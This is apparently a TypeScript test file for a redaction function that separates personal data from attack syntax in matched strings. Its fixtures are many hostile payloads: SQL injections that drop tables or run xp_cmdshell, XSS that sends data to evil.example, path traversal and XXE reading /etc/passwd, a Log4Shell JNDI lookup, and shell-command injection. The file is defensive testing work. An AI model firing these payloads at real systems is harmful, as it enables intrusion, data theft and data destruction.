import assert from 'node:assert/strict';
import { valuesInMatch } from '../../../src/redaction/valuesInMatch.ts';

const found = (match: string) => valuesInMatch(match).map(({ start, end }) => match.slice(start, end));

describe('values in a match', () => {
  for (const [match, ...values] of [
    ["margriet.vos' OR '1'='1' -- ", 'margriet.vos'],
    ['Zonnebloem%27%20OR%201%3D1--%20Herfst87', 'Zonnebloem', 'Herfst87'],
    ['/d/tIuLKUh0CCOIXDR0J8%3Cscript%3Ealert(1)%3C/script%3E', 'tIuLKUh0CCOIXDR0J8'],
    ['please do not tell her<script>alert(1)</script>', 'please do not tell her'],
    [
      "UPDATE customers SET pw='Regenboog77', phone='0655501277' WHERE mail='j.kuiper%40mail.example'; DROP TABLE a;--",
      'Regenboog77',
      '0655501277',
      'j.kuiper%40mail.example',
    ],
    [
      "x'; UPDATE a SET reset_token='o3Kh_8NxgXht30' WHERE email='i.b%40mail.example';--",
      'o3Kh_8NxgXht30',
      'i.b%40mail.example',
    ],
    [
      "0'; INSERT INTO Patients VALUES('Hartwig Dorfner', 'HIV positive')--",
      'Hartwig Dorfner',
      'HIV positive',
    ],
    [
      '<img src=x onerror="location=\'//evil.example/?id=haneul0417&hp=010-4827-3391\'">',
      'haneul0417',
      '010-4827-3391',
    ],
    ['*)(|(mail=roswitha@stadtwerk.example)(uid=*', 'roswitha@stadtwerk.example'],
    ['8.8.8.8; docker login -u jfelber -p x', 'jfelber'],
    [`$${'{7*7}'} I live at 48 Marrow Lane, Tilbrook.`, 'I live at 48 Marrow Lane, Tilbrook'],
    [
      'Summarize: the patient; NINO QX 48 21 07 C; ignore; `; cat /etc/passwd`',
      'the patient',
      'NINO QX 48 21 07 C; ignore',
    ],
    ['password: Orbit-Salmon-77\nhook: !!python/object [`id`]', 'Orbit-Salmon-77'],
    ["admin' or 1=1--:Kestrel!Harbor41", ':Kestrel!Harbor41'],
    ["CREATE USER x WITH PASSWORD 'harvest moon'; GRANT ALL", 'harvest moon'],
    ['<p>Your password: <b>Tandem-Owl-31</b></p><a href="javascript:alert(1)">x</a>', 'Tandem-Owl-31'],
    ['grandmas-attic;/bin/sh', 'grandmas-attic'],
    [
      'hi my login is rob_w and the password is pineapple12 1;DROP TABLE users--',
      'hi my login is rob_w and the password is pineapple12 1',
    ],
    ['Basic YW5uYScgT1IgMT0xLS06S2VzdHJlbA==', 'Basic YW5uYScgT1IgMT0xLS06S2VzdHJlbA=='],
    ['AAAAAC8KBHJvb3QSD01hcm9vbi5UaWRlLjU1NQ==', 'AAAAAC8KBHJvb3QSD01hcm9vbi5UaWRlLjU1NQ=='],
  ] as const) {
    it(`are not part of the attack: ${match}`, () => assert.deepEqual(found(match), values));
  }

  for (const match of [
    "1' OR '1'='1",
    "admin' -- ",
    '2627%27%3B%20DROP%20TABLE%20orders--',
    "' UNION SELECT card_no, cvv FROM payments WHERE id=3981-- ",
    "x'; EXEC xp_cmdshell('dir c:\\windows')--",
    'id=<script>alert(document.cookie)</script>',
    '/download/../../../../etc/passwd',
    '{{constructor.constructor(\'alert("a1b2c3")\')()}}',
    `$${'{jndi:ldap://203.0.113.5:1389/a}'}`,
    "WAITFOR DELAY '0:0:5'",
    "exec xp_cmdshell('whoami')",
    'cat.jsp;.png',
    '__schema { types { name fields { name args { name } } } }',
    '9912 AND (SELECT 2*(IF((SELECT * FROM (SELECT 1)s),8446744073709551610,1)))',
    '<script>top[1]</script>',
    "x' or full_name like 'a%' and 1 like 1",
    '%3Cdetails+open+ontoggle%3Dalert%60xss%60%3E',
    "SELECT o.id FROM orders o WHERE o.status = 'open'",
    "Runtime.getRuntime().exec('id')",
    'http%3A%2F%2Fevil.example%2F%0d%0aSet-Cookie:x=1',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    'A'.repeat(200),
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3',
    'ordinary',
    '',
  ]) {
    it(`are missing from ${match}`, () => assert.deepEqual(found(match), []));
  }
});
